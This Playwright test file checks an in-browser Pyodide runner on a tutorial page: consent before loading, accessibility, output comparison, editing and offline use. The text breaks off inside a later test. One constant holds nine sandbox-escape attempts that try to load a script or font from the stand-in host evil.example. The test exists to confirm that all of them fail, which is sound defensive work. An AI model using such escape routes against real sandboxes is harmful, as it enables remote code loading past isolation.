// cspell:ignore asyncio nasyncio urllib nurllib urlopen
// Steps that run in the reader's browser, on the plain site: its policy is that of the package.
import {gzipSync} from 'node:zlib';
import AxeBuilder from '@axe-core/playwright';
import {expect, test, type Locator, type Page, type Response} from '@playwright/test';
import {minimalSite} from '../support/minimalSite';
import {errorsOf, hydrate, otherHosts, requestsOf} from './site';
import {translatePages} from './translator';

test.use({baseURL: `http://localhost:${minimalSite.port}${minimalSite.baseUrl}`});

const path = 'pyodide-runner';

/** The blocks of the page: the program, and the steps that run it and look at its file. */
const blocks = (page: Page): [program: Locator, first: Locator, second: Locator] => {
  const all = page.locator('.page-step');
  return [all.nth(0), all.nth(1), all.nth(2)];
};

const press = (block: Locator, name: string) => block.getByRole('button', {name}).click();

const status = (block: Locator): Locator => block.getByRole('status');

const output = (block: Locator): Locator => block.getByRole('group', {name: 'Output of your run'});

/** The lines of an output: what it says of each that differs, in words, and whether eyes see that. */
const linesOf = (box: Locator): Promise<string[]> =>
  box.locator(':scope > span').evaluateAll((pieces) =>
    pieces.map((piece) => {
      const {borderLeftStyle, borderLeftWidth} = getComputedStyle(piece);
      const isMarked = borderLeftStyle === 'solid' && Number.parseFloat(borderLeftWidth) > 2;
      return `${isMarked ? '| ' : ''}${piece.textContent.trimEnd()}`;
    }),
  );

/** What axe finds at the steps and their outputs, in light and in dark mode. */
async function barriersAtSteps(page: Page): Promise<unknown[]> {
  const found: unknown[] = [];
  for (const mode of ['dark', 'light']) {
    await page.evaluate((theme) => document.documentElement.setAttribute('data-theme', theme), mode);
    const {violations} = await new AxeBuilder({page}).include('.lesson-hands-on').analyze();
    found.push(...violations.map(({id, nodes}) => [mode, id, nodes.map(({html}) => html)]));
  }
  return found;
}

/** The editor of a block, once it is loaded. */
const fieldOf = (block: Locator): Locator => block.locator('.cm-content');

/** Replaces the text of a block. */
async function edit(block: Locator, text: string): Promise<void> {
  if ((await block.getByRole('textbox').count()) === 0) {
    await press(block, 'Edit');
  }
  await fieldOf(block).press('ControlOrMeta+a');
  await block.page().keyboard.insertText(text);
}

/** Runs the first step, with consent. */
async function loadAndRun(page: Page): Promise<void> {
  const [, first] = blocks(page);
  await press(first, 'Run');
  await press(first, 'Load and run');
  await expect(status(first)).not.toHaveText(/^(?:|Loading.*|Starting.*|Running.*)$/, {timeout: 30_000});
}

// Python takes seconds to load, so that tests that only need it loaded share a page.
test('Python is loaded once the reader agrees; a step begins and ends in words, its output is compared, and Restart clears it', async ({
  page,
  context,
}) => {
  const errors = errorsOf(page);
  const requests = requestsOf(page);
  await page.goto(path);
  const [save, first, second] = blocks(page);
  const heard: string[] = [];
  await page.exposeFunction('hear', (text: string) => {
    if (text !== '' && text !== heard.at(-1)) {
      heard.push(text);
    }
  });

  await test.step('nothing of Python is requested before the reader agrees', async () => {
    expect(await barriersAtSteps(page), 'idle').toEqual([]);
    await press(first, 'Run');
    const consent = first.getByRole('group', {name: /loads Python: 13\.4 MB from this site, once/});
    await expect(consent).toBeFocused();
    await expect(first.locator('.page-step-panel')).toMatchAriaSnapshot(`
      - button "Run"
      - button "Edit commands"
      - group /To run this step, the page loads Python/:
        - paragraph: /To run this step/
        - button "Load and run"
        - button "Not now"
      - status
    `);
    await press(first, 'Not now');
    await expect(consent).toBeHidden();
    await expect(first.getByRole('button', {name: 'Run'})).toBeFocused();
    expect(requests.filter((url) => /pyodide\/|\bworker\b/.test(url))).toEqual([]);
  });

  await test.step('without a network, Python that was not loaded before says so', async () => {
    await context.route(/\/pyodide\//, (route) => route.abort());
    await press(first, 'Run');
    await press(first, 'Load and run');
    await expect(status(first)).toHaveText(/Python could not be loaded\. Check the connection, and press Run again\./);
    await context.unroute(/\/pyodide\//);
    // The browser itself logs the requests that failed.
    expect(errors.splice(0).filter((error) => !/ERR_FAILED|Failed to load|Failed to fetch/.test(error))).toEqual([]);
  });

  await test.step('a screen reader hears how the first run begins and ends', async () => {
    await status(first).evaluate((element) => {
      const {hear} = window as unknown as {hear: (text: string) => void};
      new MutationObserver(() => hear(element.textContent)).observe(element, {
        subtree: true,
        childList: true,
        characterData: true,
      });
    });
    // It does not ask again.
    await press(first, 'Run');
    await expect(status(first)).toHaveText('Same as on the page.', {timeout: 30_000});
    await expect(output(first)).toHaveText('4 owls look at you\n8 eyes\n');
    await expect(first.getByRole('button', {name: 'Run'})).toBeFocused();
    expect(heard.splice(0)).toEqual(['Loading Python…', 'Starting Python…', 'Running…', 'Same as on the page.']);
    await expect(first.locator('.page-step-panel')).toMatchAriaSnapshot(`
      - button "Run"
      - button "Edit commands"
      - button "Restart all steps"
      - paragraph:
        - strong: Output of your run
      - group "Output of your run": 4 owls look at you 8 eyes
      - status: Same as on the page.
    `);
    expect(await barriersAtSteps(page), 'same output').toEqual([]);
  });

  await test.step('the file of the step before is there, and so is the data of the page', async () => {
    await press(second, 'Run');
    await expect(status(second)).toHaveText('Same as on the page.');
    await edit(second, 'head -n 2 owls.csv');
    await press(second, 'Run');
    await expect(output(second)).toContainText('North,2022,9');
    await expect(status(second)).toHaveText(
      'You changed a program or a step, so the output is your own. The page shows: 8',
    );
    await edit(second, 'curl https://example.org');
    await press(second, 'Run');
    await expect(status(second)).toHaveText(/^Line 1: curl needs a shell\./);
    await press(second, 'Reset');
  });

  await test.step('a screen reader hears that a program fails', async () => {
    await edit(save, 'print("two eyes")\nowls');
    await expect(save.locator('.page-step-panel')).toMatchAriaSnapshot(`
      - textbox "Text of eyes.py"
      - paragraph: /Escape/
      - button "Reset"
      - status
    `);
    await press(first, 'Run');
    await expect(status(first)).toHaveText(/Nothing is called owls at this point/);
    expect(await barriersAtSteps(page), 'error').toEqual([]);
    expect(heard.splice(0)).toEqual([
      'Running…',
      "The step ended with an error: NameError: name 'owls' is not defined. Nothing is called owls at this point. Check the spelling, and that it is defined before this line.",
    ]);
  });

  await test.step('a screen reader hears that a run is stopped', async () => {
    await edit(save, 'print("begin", flush=True)\nwhile True:\n    pass');
    await press(first, 'Run');
    await expect(output(first)).toHaveText('begin\n');
    await expect(first.locator('.page-step-panel')).toMatchAriaSnapshot(`
      - button "Run" [disabled]
      - button "Stop"
      - button "Edit commands"
      - paragraph:
        - strong: Output of your run
      - group "Output of your run": begin
      - status: Running…
    `);
    await press(first, 'Stop');
    await expect(status(first)).toHaveText(/^Stopped/);
    expect(heard).toEqual(['Running…', 'Stopped. Files are as they were before this run.']);
    expect(await barriersAtSteps(page), 'stopped').toEqual([]);
  });

  await test.step('Restart asks before outputs of other steps go', async () => {
    page.once('dialog', (dialog) => void dialog.dismiss());
    await press(second, 'Restart');
    await expect(output(first)).toHaveText('begin\n');
  });

  await test.step('Restart clears files and outputs, and keeps what was typed; Python starts without a network', async () => {
    page.once('dialog', (dialog) => void dialog.accept());
    await press(second, 'Restart');
    requests.length = 0;
    await context.route(/\/pyodide\//, (route) => route.abort());
    await expect(page.getByRole('group', {name: 'Output of your run'})).toHaveCount(0);
    await expect(fieldOf(save)).toContainText('while True');
    await press(save, 'Reset');
    await press(second, 'Run');
    await expect(status(second)).toHaveText(
      /There is no file eyes\.txt\..* Steps above have not been run; run them first\.$/,
      {timeout: 30_000},
    );
    await press(first, 'Run');
    await expect(status(first)).toHaveText('Same as on the page.');
    // It does not ask again.
    expect(requests.filter((url) => url.includes('pyodide/3'))).toEqual([]);
  });
  expect(errors).toEqual([]);
});

test(
  'what the reader types is kept on the device, a picture is shown, and an endless loop is stopped',
  {tag: '@engines'},
  async ({page}) => {
    const errors = errorsOf(page);
    await page.goto(path);
    const [save, first, second] = blocks(page);

    await test.step('what the reader types is kept on the device until it is as the page has it', async () => {
      await press(save, 'Edit');
      await expect(save.getByRole('textbox', {name: 'Text of eyes.py'})).toBeFocused();
      await edit(save, 'print("two eyes")');
      await page.reload();
      await expect(fieldOf(save)).toHaveText('print("two eyes")');
      await press(save, 'Reset');
      await page.reload();
      await expect(save.getByRole('button', {name: 'Edit'})).toBeVisible();
      await expect(save.locator('pre')).toContainText('owls * 2');
    });

    await test.step('a text that an earlier version has kept under another name is taken over', async () => {
      await page.evaluate(() => localStorage.setItem(`pyodide-runner ${location.pathname} eyes.py 1`, 'print("old")'));
      await page.reload();
      await expect(fieldOf(save)).toHaveText('print("old")');
      await press(save, 'Reset');
      await page.reload();
      await expect(save.getByRole('button', {name: 'Edit'})).toBeVisible();
    });

    await test.step('an output of a changed program is told from that of the page', async () => {
      await edit(save, 'print("two eyes")');
      await loadAndRun(page);
      await expect(output(first)).toHaveText('two eyes\n');
      await expect(status(first)).toHaveText(
        'You changed a program or a step, so the output is your own. The page shows: 8 eyes',
      );
      await press(save, 'Reset');
      await press(first, 'Run');
      await expect(status(first)).toHaveText('Same as on the page.');
    });

    await test.step('a picture that a step draws is shown with its texts, and no script in it runs', async () => {
      await edit(
        save,
        `def draw(name, content):
    with open(name, "w") as file:
        file.write('<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40">' + content + '</svg>')

draw("owls.svg", "<title>Owls of a night</title><desc>Four owls.</desc><script>top.ran = 1</script>"
     '<rect width="80" height="40" onload="top.ran = 1"/><image href="/favicon.ico"/>')
draw("plain.svg", '<rect width="80" height="40"/>')
draw("broken.svg", "<rect>")`,
      );
      await press(first, 'Run');
      const pictures = first.locator('.page-step-panel').getByRole('img');
      await expect(pictures).toHaveCount(2);
      await expect(first.getByRole('img', {name: 'Owls of a night: Four owls.', exact: true})).toBeVisible();
      await expect(first.getByRole('img', {name: 'plain.svg', exact: true})).toBeVisible();
      for (const picture of await pictures.all()) {
        expect(await picture.evaluate((image: HTMLImageElement) => [image.naturalWidth, image.width])).toEqual([
          80, 80,
        ]);
      }
      await expect(status(first)).toHaveText(
        /Picture: Owls of a night\. The picture plain\.svg has no title, .* The file broken\.svg is not SVG that a browser can show: mismatched tag: line 1, column \d+\.$/,
      );
      expect(await page.evaluate(() => 'ran' in window)).toBe(false);
      expect((await new AxeBuilder({page}).include('.page-step').analyze()).violations).toEqual([]);
    });

    await test.step('an endless loop is stopped; files and typed text stay', async () => {
      await edit(save, 'open("eyes.txt", "w").write("9")\nprint("begin", flush=True)\nwhile True:\n    pass');
      await press(first, 'Run');
      await expect(output(first)).toHaveText('begin\n');
      await expect(second.getByRole('button', {name: 'Run'})).toBeVisible();
      await press(first, 'Stop');
      await expect(status(first)).toHaveText('Stopped. Files are as they were before this run.');
      await expect(first.getByRole('button', {name: 'Run'})).toBeFocused();
      await expect(fieldOf(save)).toContainText('while True');
      await press(second, 'Run');
      await expect(output(second)).toHaveText('8\n', {timeout: 30_000});
    });
    expect(errors).toEqual([]);
  },
);

/** Tries to import a script, or to load a font, from another host. The first line names what is left of the browser. */
const escapes = `import js, importlib
load = "import('https://evil.example/a.js')"
ways = [
    lambda: js.eval(load),
    lambda: importlib.import_module("pyodide.code").run_js(load),
    lambda: js.Object.constructor.new("return " + load)(),
    lambda: js.Reflect.getPrototypeOf(js.Object).constructor("return " + load)(),
    lambda: js.Function.prototype.constructor.new("return " + load)(),
    lambda: js.Function.new("return " + load)(),
    lambda: js.setTimeout(load, 0),
    lambda: js.setInterval(load, 0),
    lambda: js.FontFace.new("a", "url(https://evil.example/a.woff2)").load(),
]
scope, names = js.globalThis, []
while scope:
    names += list(js.Object.getOwnPropertyNames(scope))
    scope = js.Object.getPrototypeOf(scope)
print(*names)
for way in ways:
    try:
        print(way())
    except Exception as error:
        print(type(error).__name__)
`;

/** What may be left: names of the language, and few that can do nothing outside of the worker. */
const ownNames = new Set([
  ...Object.getOwnPropertyNames(Object.prototype),
  // Node.js has them, among others.
  ...Object.getOwnPropertyNames(globalThis).filter(
    (name) =>
      !/^(?:[a-z]*fetch|eval|navigator|process|BroadcastChannel|.*(?:Socket|Source|Storage|Response|Request))$/i.test(
        name,
      ),
  ),
  ...['Float16Array', 'Iterator', 'SuppressedError', 'DisposableStack', 'AsyncDisposableStack'],
  ...['addEventListener', 'removeEventListener', 'dispatchEvent', 'self', 'PERSISTENT', 'TEMPORARY'],
]);

test('programs of a reader are saved after an edit, fail in words, print much, and are not on paper', async ({
  page,
}) => {
  const narrow = {width: 360, height: 740};
  const wide = page.viewportSize();
  const scan = async (): Promise<unknown> => (await new AxeBuilder({page}).include('.page-step').analyze()).violations;
  const [save, first, second] = blocks(page);
  await page.setViewportSize(narrow);
  await page.goto(path);

  await test.step('the question for consent has no barrier in a narrow window', async () => {
    await press(first, 'Run');
    await expect(first.getByRole('button', {name: 'Load and run'})).toBeVisible();
    expect(await scan()).toEqual([]);
    await press(first, 'Not now');
  });
  await page.setViewportSize(wide ?? narrow);

  await test.step('a program that a step has changed is saved again only after an edit', async () => {
    await loadAndRun(page);
    await press(second, 'Run');
    await edit(second, 'echo \'print("more")\' >> eyes.py');
    await press(second, 'Run');
    await expect(status(second)).toHaveText(/^You changed a program or a step/);
    await press(first, 'Run');
    // The step and the program are as the page has them.
    await expect(status(first)).toHaveText('Differs from the page, which does not have this line: more');
    await expect.poll(() => linesOf(output(first))).toEqual(['4 owls look at you\n8 eyes', '| Not on the page: more']);
    await edit(save, 'print("two eyes")');
    await press(first, 'Run');
    await expect(output(first)).toHaveText('two eyes\n');
  });

  await test.step('both outputs have their names, and say which of their lines the other lacks', async () => {
    const item = first.locator('xpath=ancestor::li[1]');
    const ofPage = item.getByRole('group', {name: 'Output on the page'});
    await edit(save, 'print("ten owls")\nprint("8 eyes")\nprint("two ears")');
    await press(first, 'Run');
    await expect(output(first)).toContainText('two ears');
    // "..." on the page stands for any lines, and "8 eyes" is on both sides.
    await expect.poll(() => linesOf(output(first))).toEqual(['ten owls\n8 eyes', '| Not on the page: two ears']);
    await expect(first.getByText('(marked lines are not on the page)')).toBeVisible();
    await edit(save, 'print("9 eyes")');
    await press(first, 'Run');
    await expect(item.getByText('(marked lines are not in your run)')).toBeVisible();
    await expect.poll(() => linesOf(ofPage)).toEqual(['...', '| Not in your run: 8 eyes']);
    await expect.poll(() => linesOf(output(first))).toEqual(['9 eyes']);
    // In the place of that of the page, not below it.
    await expect(item.locator('pre').filter({hasText: '8 eyes', visible: true})).toHaveCount(1);
    expect(await barriersAtSteps(page), 'different output').toEqual([]);
  });

  await test.step('a print has the page as it was', async () => {
    await page.emulateMedia({media: 'print'});
    await expect(first.getByRole('button', {name: /Run|Edit|Restart/})).toHaveCount(0);
    await expect(page.locator('main')).not.toContainText('9 eyes', {useInnerText: true});
    await expect(page.getByText('8 eyes', {exact: true}).filter({visible: true})).toHaveCount(1);
    await expect(save.locator('pre')).toContainText('owls * 2');
    await page.emulateMedia({media: null});
  });

  for (const [name, program, said, printed] of [
    [
      'a module that is not there',
      'import numpy',
      /There is no module numpy here/,
      /ModuleNotFoundError: No module named 'numpy'\n$/,
    ],
    [
      'a syntax error',
      'print("owl"',
      /could not read the program/,
      /^ {2}File "\/home\/reader\/eyes\.py", line 1\n[^]*SyntaxError: '\(' was never closed\n$/,
    ],
    ['input()', 'input("How many? ")', /asks for input, which it cannot get/, /EOFError: EOF when reading a line\n$/],
    [
      'a request',
      'import urllib.request\nurllib.request.urlopen("http://localhost:1/")',
      /cannot reach the network/,
      /URLError/,
    ],
    ['a request of the browser', 'import js\njs.fetch("/")', /AttributeError: fetch\.$/, /AttributeError: fetch\n$/],
    [
      'a file that is not there',
      'open("none.csv")',
      /There is no file none\.csv/,
      /^Traceback \(most recent call last\):\n {2}File "\/home\/reader\/eyes\.py", line 1, in <module>\n/,
    ],
  ] as const) {
    const title = `a program that fails ends with the words of Python, and one sentence in plain ones: ${name}`;
    await test.step(title, async () => {
      await edit(save, program);
      await press(first, 'Run');
      await expect.soft(status(first), name).toHaveText(said);
      await expect.soft(output(first), name).toHaveText(printed, {useInnerText: true});
    });
  }

  await test.step('a program finds no name and makes no function that reaches another host', async () => {
    const asked = otherHosts(page);
    await edit(save, escapes);
    await press(first, 'Run');
    await expect(status(first)).toHaveText(/^You changed a program/);
    const [left = '', ...tried] = ((await output(first).textContent()) ?? '').trim().split('\n');
    // Nothing of it sends, stores, or opens something.
    expect(left.split(' ').filter((name) => !ownNames.has(name))).toEqual([]);
    expect(tried).toHaveLength(9);
    expect(tried.filter((one) => !one.endsWith('Error') && one !== 'JsException')).toEqual([]);
    expect([...asked]).toEqual([]);
  });

  await test.step('100 MB of output are cut, and the page stays usable', async () => {
    await edit(save, 'for n in range(1000):\n    print("x" * 100_000)\nprint("end")');
    await press(first, 'Run');
    await expect(status(first)).toHaveText(/The output is longer than 100,000 characters; the rest is not shown\./);
    expect((await output(first).textContent())?.length).toBe(100_000);
  });

  await test.step('a running step has no barrier, and its buttons fit a finger and a narrow window', async () => {
    await edit(save, 'print("a long line of output " * 10, flush=True)\nwhile True:\n    pass');
    await page.setViewportSize(narrow);
    await press(first, 'Run');
    await expect(output(first)).toContainText('a long line of output');
    for (const mode of ['light', 'dark']) {
      await page.evaluate((theme) => document.documentElement.setAttribute('data-theme', theme), mode);
      expect(await scan(), mode).toEqual([]);
    }
    for (const button of await page.locator('.page-step-panel').getByRole('button').all()) {
      expect((await button.boundingBox())?.height).toBeGreaterThanOrEqual(44);
    }
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(narrow.width);
  });
});

test('steps share one Python: presses start one, others say who has it, and what was printed before Stop is there', async ({
  page,
}) => {
  await page.goto(path);
  const [save, first, second] = blocks(page);
  const pressThrice = (block: Locator): Promise<void> =>
    block.getByRole('button', {name: 'Run'}).evaluate((button) => {
      for (let presses = 0; presses < 3; presses += 1) {
        (button as HTMLElement).click();
      }
    });

  await test.step('three presses in one task start one worker', async () => {
    await loadAndRun(page);
    await press(first, 'Restart');
    await expect.poll(() => page.workers().length).toBe(0);
    const started: string[] = [];
    page.on('worker', (worker) => started.push(worker.url()));
    await pressThrice(first);
    await expect(status(first)).toHaveText('Same as on the page.', {timeout: 30_000});
    expect(started).toHaveLength(1);
    expect(page.workers()).toHaveLength(1);
  });

  await test.step('all that a program has printed is shown while it runs, and stays when it is stopped', async () => {
    await edit(save, 'for n in range(2000):\n    print(n)\nprint("A")\nprint("B")\nwhile True:\n    pass');
    await press(first, 'Run');
    const all = `${Array.from({length: 2000}, (_, n) => n).join('\n')}\nA\nB\n`;
    await expect.poll(() => output(first).textContent()).toBe(all);
    await expect(status(first)).toHaveText('Running…');
  });

  await test.step('another step says that it has to wait, and can stop the one that runs', async () => {
    await press(second, 'Run');
    await expect(status(second)).toHaveText(/^Another step is running/);
    await expect(status(first)).toHaveText('Running…');
    await press(second, 'Stop');
    await expect(status(first)).toHaveText(/^Stopped/);
    await expect(output(first)).toHaveText(/1999\nA\nB\n$/);
    await expect(second.getByRole('button', {name: 'Run'})).toBeFocused();
    await expect(status(second)).toHaveText('');
    await press(save, 'Reset');
    await press(first, 'Run');
    await expect(status(first)).toHaveText('Same as on the page.', {timeout: 30_000});
    await press(second, 'Run');
    await expect(status(second)).toHaveText('Same as on the page.');
  });

  await test.step('a line of the page that an own program does not print is quoted as it is, without advice', async () => {
    await edit(second, 'echo "  8"');
    page.once('dialog', (dialog) => void dialog.accept());
    await press(second, 'Restart');
    await press(second, 'Run');
    await expect(status(second)).toHaveText(/The page shows: 8$/, {timeout: 30_000});
    await expect(status(second).locator('code')).toHaveText('8');
  });
});

test('a running step shows the end of its output as a terminal does, and asyncio waits', async ({page}) => {
  await page.goto(path);
  const [save, first] = blocks(page);
  const isAtEnd = (): Promise<boolean> =>
    output(first).evaluate(({scrollHeight, scrollTop, clientHeight}) => scrollHeight - scrollTop - clientHeight < 2);

  await test.step('a bar of progress stays in one line, without colors', async () => {
    await edit(
      save,
      'import asyncio\nasync def count():\n    for n in range(3):\n        print(f"\\r{n}0%", end="")\n        await asyncio.sleep(0.01)\nasyncio.run(count())\nprint("\\x1b[31m done\\x1b[0m")',
    );
    await loadAndRun(page);
    await expect(output(first)).toHaveText('20% done\n');
  });

  await test.step('the end stays in sight, unless the reader looks at what is above', async () => {
    await edit(save, 'import time\nfor n in range(1000):\n    print(n)\n    time.sleep(0.02)');
    await press(first, 'Run');
    await expect.poll(() => output(first).textContent()).toContain('\n60\n');
    await expect.poll(isAtEnd).toBe(true);
    await output(first).evaluate((box) => (box.scrollTop = 0));
    const seen = (await output(first).textContent())?.length ?? 0;
    await expect.poll(async () => (await output(first).textContent())?.length).toBeGreaterThan(seen + 100);
    expect(await output(first).evaluate((box) => box.scrollTop)).toBe(0);
    await press(first, 'Stop');
  });
});

test.describe('on a phone', () => {
  test.use({hasTouch: true, isMobile: true, viewport: {width: 360, height: 740}});

  test('the field of a program does not make the browser enlarge the page', async ({page}) => {
    await page.goto(path);
    const [save] = blocks(page);
    await press(save, 'Edit');
    await expect(fieldOf(save)).toBeVisible();
    const size = await fieldOf(save).evaluate((field) => parseFloat(getComputedStyle(field).fontSize));
    expect(size).toBeGreaterThanOrEqual(16);
  });
});

test('on a translated page, programs are edited, run, fail, draw, and are compared', async ({page}) => {
  const errors = errorsOf(page);
  await translatePages(page, 'hydrated');
  await page.goto(path);
  await hydrate(page);
  await expect(page.locator('html')).toHaveAttribute('data-translated', 'true');
  const [save, first, second] = blocks(page);
  await loadAndRun(page);
  await expect(status(first)).toHaveText('Same as on the page.');
  for (const [program, said] of [
    ['print("two eyes")', /^You changed a program or a step.*The page shows: 8 eyes$/],
    ['owls', /Nothing is called owls at this point/],
    [
      'open("a.svg", "w").write("<svg xmlns=\\"http://www.w3.org/2000/svg\\"><title>Owls</title></svg>")',
      /Picture: Owls\.$/,
    ],
  ] as const) {
    await edit(save, program);
    await press(first, 'Run');
    await expect(status(first)).toHaveText(said);
  }
  await edit(save, 'while True:\n    pass');
  await press(first, 'Run');
  await press(second, 'Run');
  await expect(status(second)).toHaveText(/^Another step is running/);
  await press(second, 'Stop');
  await expect(status(first)).toHaveText(/^Stopped/);
  await press(save, 'Reset');
  await press(first, 'Run');
  await expect(status(first)).toHaveText('Same as on the page.', {timeout: 30_000});
  expect(errors).toEqual([]);
});

test('ten runs take no more memory than a few, and start one Python', async ({page}) => {
  await page.goto(path);
  const [, first] = blocks(page);
  await loadAndRun(page);
  const session = await page.context().newCDPSession(page);
  const heap = async (): Promise<number> => {
    await session.send('HeapProfiler.collectGarbage');
    return (await session.send('Runtime.getHeapUsage')).usedSize;
  };
  const runs = async (count: number): Promise<void> => {
    for (let run = 0; run < count; run += 1) {
      await press(first, 'Run');
      await expect(status(first)).toHaveText('Same as on the page.');
    }
  };
  await runs(3);
  const before = await heap();
  await runs(10);
  expect((await heap()) - before).toBeLessThan(2_000_000);
  expect(page.workers()).toHaveLength(1);
});

test('a page without steps that run loads no script of them', async ({page}) => {
  /** Names of the loaded scripts that have a word of the runner. */
  async function scripts(route: string): Promise<string[]> {
    const responses: Response[] = [];
    const collect = (response: Response): void => void responses.push(response);
    page.on('response', collect);
    await page.goto(route);
    await hydrate(page);
    await page.waitForLoadState('networkidle');
    page.off('response', collect);
    const own = responses.filter((response) => response.url().endsWith('.js'));
    const texts = await Promise.all(own.map((response) => response.text()));
    return own.map((response) => response.url()).filter((_, index) => texts[index]?.includes('page-step'));
  }
  expect(await scripts('tutorial-steps')).toEqual([]);
  expect(await scripts(path)).not.toEqual([]);
});

test('a browser without WebAssembly, and one that cannot store, are answered in words', async ({page}) => {
  await page.addInitScript(() => {
    Object.defineProperty(window, 'WebAssembly', {value: undefined});
    Storage.prototype.setItem = () => {
      throw new DOMException('full', 'QuotaExceededError');
    };
  });
  await page.goto(path);
  const [save, first] = blocks(page);
  await edit(save, 'print("two eyes")');
  await expect(save.getByRole('alert')).toHaveText(/could not keep your change/);
  await expect(fieldOf(save)).toHaveText('print("two eyes")');
  await press(first, 'Run');
  await expect(status(first)).toHaveText(/does not run WebAssembly/);
});

test('with the copy of the site, a step runs on a page that is loaded anew without a network', async ({
  page,
  context,
}) => {
  test.setTimeout(240_000);
  await page.goto('offline');
  await page.getByRole('main').getByRole('button', {name: 'Save a copy on this device'}).click();
  await expect(page.getByRole('main').getByRole('status')).toHaveText(/^A copy of this site is saved on this device/, {
    timeout: 120_000,
  });
  await page.goto(path);
  await loadAndRun(page);
  await context.setOffline(true);
  await page.reload();
  await expect.poll(() => page.evaluate(() => navigator.onLine)).toBe(false);
  const [, first, second] = blocks(page);
  await press(first, 'Run');
  await expect(status(first)).toHaveText('Same as on the page.', {timeout: 30_000});
  // With its data.
  await press(second, 'Run');
  await expect(status(second)).toHaveText('Same as on the page.');
  await edit(second, 'head -n 2 owls.csv');
  await press(second, 'Run');
  await expect(output(second)).toContainText('North');
  await expect
    .poll(() => linesOf(output(second)))
    .toEqual(['| Not on the page: Site,Year,Owls', '| Not on the page: North,2022,9']);
});

test('slides have the steps, and their keys do not turn the slide', async ({page}) => {
  await page.goto(`${path}?docusaurus-data-view=present#slide-3`);
  const [save, first] = blocks(page);
  // The page is hydrated before it becomes slides, which mounts its steps anew.
  await expect(page.getByRole('navigation', {name: 'Slides'})).toBeVisible();
  await edit(save, 'print("eyes")');
  await save.getByRole('textbox').press('ArrowRight');
  await expect(page).toHaveURL(/#slide-3$/);
  await first.evaluate((element) => element.closest('.slide')?.scrollIntoView({behavior: 'instant'}));
  await loadAndRun(page);
  await expect(output(first)).toHaveText('eyes\n');
  const slide = page.locator('.slide').filter({has: first});
  await expect(slide.getByRole('group', {name: 'Output on the page'})).toContainText('Not in your run: 8 eyes');
});

test.describe('without scripts', () => {
  test.use({javaScriptEnabled: false});

  test('the page has its blocks, and no buttons for them', async ({page}) => {
    await page.goto(path);
    expect(await page.locator('.page-step').count()).toBeGreaterThan(3);
    await expect(
      page
        .locator('.page-step')
        .getByText(/Run|Edit|shell/)
        .filter({visible: true}),
    ).toHaveCount(0);
    await expect(page.locator('.page-step').first()).toContainText('owls * 2');
  });
});

test.describe('the editor of a program', () => {
  const program = async (block: Locator): Promise<string> =>
    (await fieldOf(block).locator('.cm-line').allTextContents()).join('\n');

  test('is loaded by a press on Edit, small, and every state of it can be used by everybody', async ({page}) => {
    const sizes = new Map<string, Promise<number>>();
    page.on('response', (response) => {
      if (response.url().endsWith('.js')) {
        sizes.set(
          response.url(),
          response.body().then((body) => gzipSync(body).length),
        );
      }
    });
    await page.goto(path);
    await hydrate(page);
    const [save] = blocks(page);
    await page.waitForLoadState('networkidle');
    const before = new Set(sizes.keys());
    await press(save, 'Edit');
    await expect(fieldOf(save)).toBeFocused();
    const loaded = await Promise.all([...sizes].filter(([url]) => !before.has(url)).map(([, size]) => size));
    const bytes = loaded.reduce((sum, size) => sum + size, 0);
    expect(bytes).toBeGreaterThan(50_000);
    expect(bytes).toBeLessThanOrEqual(120_000);
    await expect(save.locator('.cm-lineNumbers')).toContainText('1');
    await edit(save, 'for owl in range(2):\n    print("owl")');
    for (const theme of ['light', 'dark']) {
      await page.evaluate((mode) => (document.documentElement.dataset.theme = mode), theme);
      const {violations} = await new AxeBuilder({page}).include('.page-step').analyze();
      expect(violations, theme).toEqual([]);
    }
    await page.setViewportSize({width: 320, height: 640});
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
  });

  test('indents by Tab and after a colon, lets the keyboard out, and undoes everything, Reset too', async ({page}) => {
    await page.goto(path);
    await hydrate(page);
    const [save] = blocks(page);
    await edit(save, '');
    const printed = await save.locator('pre').first().textContent();
    await page.keyboard.type('if True:\nprint("owl")\n');
    expect(await program(save)).toBe('if True:\n    print("owl")\n    ');
    await page.keyboard.press('Tab');
    expect(await program(save)).toBe('if True:\n    print("owl")\n        ');
    await page.keyboard.press('Shift+Tab');
    await page.keyboard.press('Escape');
    await page.keyboard.press('Tab');
    await expect(fieldOf(save)).not.toBeFocused();
    await press(save, 'Reset');
    expect(await fieldOf(save).textContent()).toBe(printed);
    await fieldOf(save).focus();
    await page.keyboard.press('ControlOrMeta+z');
    expect(await program(save)).toBe('if True:\n    print("owl")\n    ');
  });

  test('keeps quotation marks straight, typed and pasted', async ({page, context}) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await page.goto(path);
    await hydrate(page);
    const [save] = blocks(page);
    await edit(save, '');
    await page.keyboard.insertText('print(“owl”)');
    expect(await program(save)).toBe('print("owl")');
    await page.evaluate(() => navigator.clipboard.writeText(' # ‘two’'));
    await page.keyboard.press('ControlOrMeta+v');
    expect(await program(save)).toBe('print("owl") # \'two\'');
  });

  test('runs by Ctrl+Enter, and marks the line at which a program stops until it is changed', async ({page}) => {
    await page.goto(path);
    await hydrate(page);
    const [save, first] = blocks(page);
    await edit(save, 'print("owl")\nowls');
    await page.keyboard.press('ControlOrMeta+Enter');
    await press(first, 'Load and run');
    await expect(status(first)).toHaveText(/Nothing is called owls/, {timeout: 30_000});
    await expect(save.locator('.page-step-fault')).toHaveText('owls');
    await fieldOf(save).press('ControlOrMeta+End');
    await page.keyboard.type(' = 2');
    await expect(save.locator('.page-step-fault')).toHaveCount(0);
    await page.keyboard.press('ControlOrMeta+Enter');
    await expect(output(first)).toHaveText('owl\n');
  });

  test('is a plain field where it cannot be loaded', async ({page}) => {
    await page.goto(path);
    await hydrate(page);
    const [save] = blocks(page);
    await page.route(/\.js$/, async (route) => {
      const response = await route.fetch();
      await ((await response.text()).includes('tabFocusMode') ? route.abort() : route.fulfill({response}));
    });
    await press(save, 'Edit');
    const field = save.locator('textarea');
    await expect(field).toBeFocused();
    await field.fill('print("owl")');
    await page.unrouteAll({behavior: 'wait'});
    await page.reload();
    await expect(fieldOf(save)).toHaveText('print("owl")');
  });
});

test.describe('a prediction', () => {
  const box = (page: Page): Locator => page.getByRole('region', {name: 'How many eyes do seven owls have?'});
  const outcome = (page: Page): Locator => box(page).getByText('14 eyes').first();

  test('comes before the output of the page, in words that stay', async ({page}) => {
    const errors = errorsOf(page);
    await page.goto(path);
    await hydrate(page);
